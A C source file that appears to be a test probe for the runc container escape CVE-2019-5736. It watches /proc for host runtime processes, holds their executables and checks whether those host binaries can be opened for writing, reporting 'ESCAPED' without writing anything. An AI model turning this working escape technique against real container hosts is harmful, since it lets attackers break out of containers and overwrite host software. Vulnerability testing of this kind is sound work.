/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The runtime's binary overwritten through /proc/PID/exe (CVE-2019-5736).
 *
 *   exesteal FIFO
 *       Runs in a container with CAP_SYS_PTRACE (so that it may open the exe
 *       of a process that is not dumpable), as its first process. Makes FIFO,
 *       then watches /proc for processes that appear whose executable is not
 *       a file of the container (the file its path leads to here): an exec's
 *       stage while the runtime prepares it, or the runtime itself once the
 *       container has exec'd it through a script starting
 *       "#!/proc/self/exe --log=FIFO" (it then waits, opening FIFO as its log,
 *       until we read it). For each: holds its exe (O_PATH), lets it go on,
 *       waits until it and whatever else runs the same file has ended
 *       (ETXTBSY), then opens the exe for writing. A host binary that opens is
 *       the escape: reported "ESCAPED", nothing written (the test checks the
 *       binary's bytes as well). One line per process found, the last
 *       "pid N: done"; runs until killed.
 */
#define _GNU_SOURCE
#include "newpids.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void pause_ms(long ms)
{
        struct timespec t = {ms / 1000, (ms % 1000) * 1000000};
        nanosleep(&t, NULL);
}

/* The held exe opened for writing, retried while something still runs it (ETXTBSY). */
static int open_for_writing(int exe)
{
        char p[64];
        snprintf(p, sizeof(p), "/proc/self/fd/%d", exe);
        for (int i = 0; i < 100; i++) {
                int w = open(p, O_WRONLY | O_CLOEXEC);
                if (w >= 0) {
                        close(w);
                        return 0;
                }
                if (errno != ETXTBSY)
                        return -errno;
                pause_ms(50);
        }
        return -ETXTBSY;
}

static void attack(int pid, void *arg)
{
        const char *fifo = arg;
        char p[64], target[512] = "";
        snprintf(p, sizeof(p), "/proc/%d/exe", pid);
        int exe = open(p, O_PATH | O_CLOEXEC);
        if (exe < 0)
                return; /* gone already, or a kernel thread */
        ssize_t n = readlink(p, target, sizeof(target) - 1);
        target[n > 0 ? n : 0] = '\0';
        /* a program of the container's own is the file its path leads to here */
        struct stat st, here;
        if (fstat(exe, &st) < 0 ||
            (stat(target, &here) == 0 && here.st_dev == st.st_dev && here.st_ino == st.st_ino)) {
                close(exe);
                return;
        }
        printf("pid %d: holds the exe of a program from outside: %s\n", pid, target);
        /* a runtime waiting on the FIFO goes on once it has a reader */
        int r = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        for (int i = 0; i < 100 && kill(pid, 0) == 0; i++)
                pause_ms(50);
        int w = open_for_writing(exe);
        if (w == 0)
                printf("pid %d: ESCAPED: %s can be opened for writing\n", pid, target);
        else
                printf("pid %d: not writable: %s\n", pid, strerror(-w));
        if (r >= 0)
                close(r);
        close(exe);
        printf("pid %d: done\n", pid);
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc != 2) {
                fprintf(stderr, "usage: exesteal FIFO\n");
                return 2;
        }
        if (mkfifo(argv[1], 0666) < 0 && errno != EEXIST) {
                perror("exesteal");
                return 1;
        }
        return watch_new_pids(attack, argv[1]);
}
